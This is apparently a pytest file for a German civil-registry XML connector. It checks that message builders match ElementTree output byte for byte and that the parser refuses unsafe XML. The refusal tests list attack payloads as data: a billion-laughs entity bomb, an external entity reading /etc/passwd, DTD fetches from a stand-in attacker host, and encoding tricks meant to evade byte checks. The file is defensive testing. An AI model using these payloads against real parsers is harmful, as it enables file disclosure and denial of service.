"""The Standesamt XML: the templates write what ElementTree wrote, byte for byte; the parser
refuses DTDs, entities and every way around the byte checks (other encodings, NUL)."""

import re
import uuid
import xml.etree.ElementTree as ET
from datetime import datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connectors import xpersonenstand as messages

_HEAD = re.compile(rb"<ns0:nachrichtenID>([^<]*)</ns0:nachrichtenID>"
                   rb"<ns0:erstellungszeitpunkt>([^<]*)</ns0:erstellungszeitpunkt>")
_SAME_HEAD = b"<ns0:nachrichtenID /><ns0:erstellungszeitpunkt />"


def _tree_message(root_name: str, author: str, reader: str) -> ET.Element:
    """The message as the ElementTree builder made it, with the two varying header fields
    left empty; the caller adds the body."""
    root = ET.Element(messages.tag(root_name))
    head = ET.SubElement(root, messages.tag("nachrichtenkopf"))
    for name, value in (("nachrichtenID", ""), ("erstellungszeitpunkt", ""), ("autor", author),
                        ("leser", reader)):
        ET.SubElement(head, messages.tag(name)).text = value
    return root


def _texts(parent: ET.Element, values: dict[str, str], names: tuple[str, ...]) -> None:
    for name in names:
        if name in values:
            ET.SubElement(parent, messages.tag(name)).text = values[name]


def _tostring(root: ET.Element) -> bytes:
    return ET.tostring(root, encoding="utf-8", xml_declaration=True)


def _same_head(message: bytes) -> bytes:
    return _HEAD.sub(_SAME_HEAD, message, count=1)


_odd = st.lists(st.sampled_from(
    ["a", "&", "<", ">", '"', "'", "\r", "\n", "\t", " ", "]]>", "&amp;", "ä", "😀", "\ud800",
     "\x00", "\x7f", "\u2028"]), max_size=6).map("".join)


class TestBuildersWriteWhatElementTreeWrote:
    @settings(max_examples=150, deadline=None, database=None, derandomize=True)
    @given(idnr=_odd, birth_date=_odd, family_name=st.none() | _odd, reader=_odd)
    def test_request(self, idnr: str, birth_date: str, family_name: str | None,
                     reader: str) -> None:
        root = _tree_message(messages.REQUEST, "einmal-broker", reader)
        search = ET.SubElement(root, messages.tag("suche"))
        _texts(search, {"idnr": idnr, "geburtsdatum": birth_date}, ("idnr", "geburtsdatum"))
        if family_name:
            _texts(search, {"familienname": family_name}, ("familienname",))
        built = messages.build_request(idnr=idnr, birth_date=birth_date,
                                       family_name=family_name, reader=reader)
        assert _same_head(built) == _tostring(root)

    @settings(max_examples=150, deadline=None, database=None, derandomize=True)
    @given(texts=st.fixed_dictionaries({name: _odd for name in (
               "author", "register_number", "place_name", "ags", "idnr", "vornamen",
               "familienname", "geschlecht", "geburtsdatum")}),
           parents=st.lists(st.fixed_dictionaries({}, optional={
               "idnr": _odd, "vornamen": _odd, "familienname": _odd}), max_size=3))
    def test_answer(self, texts: dict[str, str], parents: list[dict[str, str]]) -> None:
        root = _tree_message(messages.ANSWER, texts["author"], "einmal-broker")
        entry = ET.SubElement(root, messages.tag("geburtseintrag"))
        _texts(entry, {"registernummer": texts["register_number"]}, ("registernummer",))
        kind = ET.SubElement(entry, messages.tag("kind"))
        child_names = ("idnr", "vornamen", "familienname", "geschlecht", "geburtsdatum")
        _texts(kind, texts, child_names)
        place = ET.SubElement(kind, messages.tag("geburtsort"))
        _texts(place, {"name": texts["place_name"], "ags": texts["ags"]}, ("name", "ags"))
        for parent in parents:
            _texts(ET.SubElement(entry, messages.tag("elternteil")),
                   {k: v for k, v in parent.items() if v}, ("idnr", "vornamen", "familienname"))
        built = messages.build_answer(
            author=texts["author"], register_number=texts["register_number"],
            child={name: texts[name] for name in child_names}, place_name=texts["place_name"],
            ags=texts["ags"], parents=parents)
        assert _same_head(built) == _tostring(root)

    @settings(max_examples=50, deadline=None, database=None, derandomize=True)
    @given(author=_odd, code=_odd, text=_odd)
    def test_error(self, author: str, code: str, text: str) -> None:
        root = _tree_message(messages.ERROR, author, "einmal-broker")
        _texts(ET.SubElement(root, messages.tag("fehler")), {"code": code, "text": text},
               ("code", "text"))
        assert (_same_head(messages.build_error(author=author, code=code, text=text))
                == _tostring(root))

    def test_a_text_that_is_no_string_is_refused_as_elementtree_did(self) -> None:
        with pytest.raises(TypeError, match="cannot serialize 5"):
            messages.build_error(author="a", code=5, text="t")  # type: ignore[arg-type] # the test

    def test_the_header_names_a_fresh_version_4_uuid_and_the_time(self) -> None:
        first, second = (messages.build_error(author="a", code="c", text="t") for _ in range(2))
        ids = []
        for message in (first, second):
            head = _HEAD.search(message)
            assert head is not None
            message_id = uuid.UUID(head.group(1).decode())
            assert (str(message_id), message_id.version) == (head.group(1).decode(), 4)
            assert message_id.variant == uuid.RFC_4122
            assert datetime.fromisoformat(head.group(2).decode()).utcoffset() is not None
            ids.append(message_id)
        assert ids[0] != ids[1]

    def test_a_built_answer_parses_back(self) -> None:
        root = messages.parse_xml(messages.build_answer(
            author="standesamt:04011000", register_number="G 1/2026 <&>",
            child={"idnr": "1", "vornamen": "Mia", "familienname": "Müller", "geschlecht": "w",
                   "geburtsdatum": "2026-10-12"},
            place_name="Bremen", ags="04011000", parents=[]))
        assert root.tag == messages.tag(messages.ANSWER)
        assert root.findtext(f".//{messages.tag('registernummer')}") == "G 1/2026 <&>"
        assert root.findtext(f".//{messages.tag('familienname')}") == "Müller"


_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">'
           + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
           + "]><lolz>&lol9;</lolz>").encode()


class TestParserRefusesUnsafeXml:
    @pytest.mark.parametrize("raw", [
        _LAUGHS,
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]><x/>',
        b'<!DOCTYPE x SYSTEM "http://attacker.test/x.dtd"><x/>',
        b'<!doctype x [<!entity a "b">]><x>&a;</x>',
        b'\xef\xbb\xbf<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
        # UTF-16 without a BOM: expat reads it as UTF-16 from the leading "<\0"
        '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16-le"),
        '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16-be"),
        '<?xml version="1.0" encoding="utf-16"?><x/>'.encode("utf-16-le"),
        '<?xml version="1.0" encoding="utf-16"?><x/>'.encode("utf-16"),  # with a BOM
        b"<x>\x00</x>",
        b'<?xml version="1.0" encoding="latin-1"?><x/>',
        b'\xef\xbb\xbf<?xml version="1.0" encoding="ISO-8859-1"?><x/>',
        b"<x>\xff</x>",
        b"<x>" + b"a" * 256 * 1024 + b"</x>",
    ], ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd",
            "lower-case", "utf8-bom", "utf16le-no-bom", "utf16be-no-bom", "utf16-declared",
            "utf16-bom", "nul", "latin1-declared", "bom-latin1-declared", "not-utf8",
            "too-large"])
    def test_refused_before_parsing(self, raw: bytes) -> None:
        with pytest.raises(messages.UnsafeXmlError):
            messages.parse_xml(raw)

    @pytest.mark.parametrize("raw", [
        b"\xef\xbb\xbf<x>a</x>",
        b"<?xml version='1.0' encoding='UTF-8'?>\n<x>a</x>",
        b"<x><!-- hallo! --><![CDATA[a]]></x>",
        b"<x>a</x>",
    ])
    def test_safe_utf8_is_read(self, raw: bytes) -> None:
        assert "".join(messages.parse_xml(raw).itertext()) == "a"

    def test_malformed_xml_is_a_parse_error(self) -> None:
        with pytest.raises(ET.ParseError):
            messages.parse_xml(b"<x><y></x>")
